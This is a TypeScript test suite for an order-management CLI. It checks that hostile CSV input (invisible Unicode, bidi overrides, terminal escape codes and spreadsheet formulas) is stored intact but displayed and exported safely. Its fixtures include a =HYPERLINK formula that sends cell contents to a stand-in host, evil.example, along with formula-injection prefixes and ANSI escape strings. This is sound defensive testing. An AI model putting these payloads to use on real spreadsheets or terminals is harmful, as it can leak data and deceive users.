// Texts of a hostile order file, as people see them: nothing moves the cursor, reorders a line, or runs in a
// spreadsheet.
import { describe, expect } from 'vitest'
import { csv, line } from '../support/lines.js'
import { test } from '../support/shop.js'

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ann")'
/** Right-to-left override, zero-width space, an isolate, a tag character and the emoji joiner. */
const INVISIBLE = ['\u202e', '\u200b', '\u2066', '\u{e0041}', '\u200d']
const NAME = `Ann${INVISIBLE.join('')}nnA`

const UNSAFE = /[\p{Cf}\u007f-\u009f\u2028\u2029]/u

/** Control characters except line breaks. */
const hasControls = (text: string) => [...text].some((letter) => letter < ' ' && letter !== '\n')

const VIEWS = [
  ['orders', 'list'],
  ['orders', 'show', '+A-1'],
  ['products', 'list'],
  ['leaderboard', 'customers'],
  ['failed', 'list'],
  ['import', 'list'],
]

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`

describe('a hostile order file', () => {
  test('stores invisible characters and formulas unchanged, and shows none', async ({ shop }) => {
    const one = line({ order: '+A-1', customer: '@C-1', name: quoted(NAME), sku: '-S-1', product: quoted(FORMULA) })
    const other = line({ order: `A\u202e-2`, customer: 'C-2', name: quoted(FORMULA), sku: 'S-2', quantity: 5000 })
    await shop.importing(csv(one, other))
    await shop.runWith({ ORDERCTL_PAYMENT_SUCCESS_RATE: '1' }, 'work', '--drain')
    expect(shop.rows('select name from customers order by customer_id')).toEqual([{ name: NAME }, { name: FORMULA }])
    for (const view of VIEWS) {
      for (const format of [[], ['--json'], ['--csv']]) {
        const { code, stdout, stderr } = await shop.run(
          ...view,
          ...(view.includes('show') && format[0] === '--csv' ? [] : format),
        )
        expect(code, `${view} ${stderr}`).toBe(0)
        expect(stdout, `${view} ${format}`).not.toMatch(UNSAFE)
        expect(hasControls(stdout)).toBe(false)
      }
    }
    const { result } = await shop.json('leaderboard', 'customers')
    expect(result).toMatchObject({ customers: [{ customer_id: '@C-1', customer_name: NAME }] })
    const { stdout: exported } = await shop.run('orders', 'export', '--format', 'json')
    expect(exported).not.toMatch(UNSAFE)
  })

  test('runs nothing in a spreadsheet', async ({ shop }) => {
    const names = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1', FORMULA]
    const lines = names.map((name, at) =>
      line({ order: `${at}`, customer: `C-${at}`, name: quoted(name), sku: quoted(name), product: quoted(name) }),
    )
    await shop.importing(csv(...lines.filter((_, at) => at !== 4)))
    await shop.runWith({ ORDERCTL_PAYMENT_SUCCESS_RATE: '1' }, 'work', '--drain')
    for (const view of [
      ['products', 'list'],
      ['leaderboard', 'customers'],
      ['leaderboard', 'products'],
    ]) {
      const { stdout } = await shop.run(...view, '--csv')
      const cells = stdout.split('\n').flatMap((row) => row.split(','))
      expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([])
      expect(stdout).toContain("'=1+1")
    }
  })

  test('control characters are rejected, and shown as their code', async ({ shop }) => {
    const bad = ['\u001b[2J', '\u009b2J', '\u0007', '\u007f', '\u0085']
    const file = shop.file('orders.csv', csv(...bad.map((text, at) => line({ order: `A-${at}`, name: `Ann${text}` }))))
    const { code, stdout, stderr } = await shop.run('import', file)
    expect(code).toBe(3)
    expect(shop.value('select count(*) from orders')).toBe(0)
    expect(stderr).toContain('(U+001B)')
    expect(stdout + stderr).not.toMatch(UNSAFE)
    expect(hasControls(stdout + stderr)).toBe(false)
  })

  test('its name is shown without them too', async ({ shop }) => {
    const missing = `\u001b[31m\u202eorders.csv`
    for (const format of [[], ['--json'], ['--log-format', 'json']]) {
      const { code, stdout, stderr } = await shop.run('import', missing, ...format)
      expect(code).toBe(2)
      expect(stdout + stderr).not.toMatch(UNSAFE)
      expect(hasControls(stdout + stderr)).toBe(false)
    }
  })
})
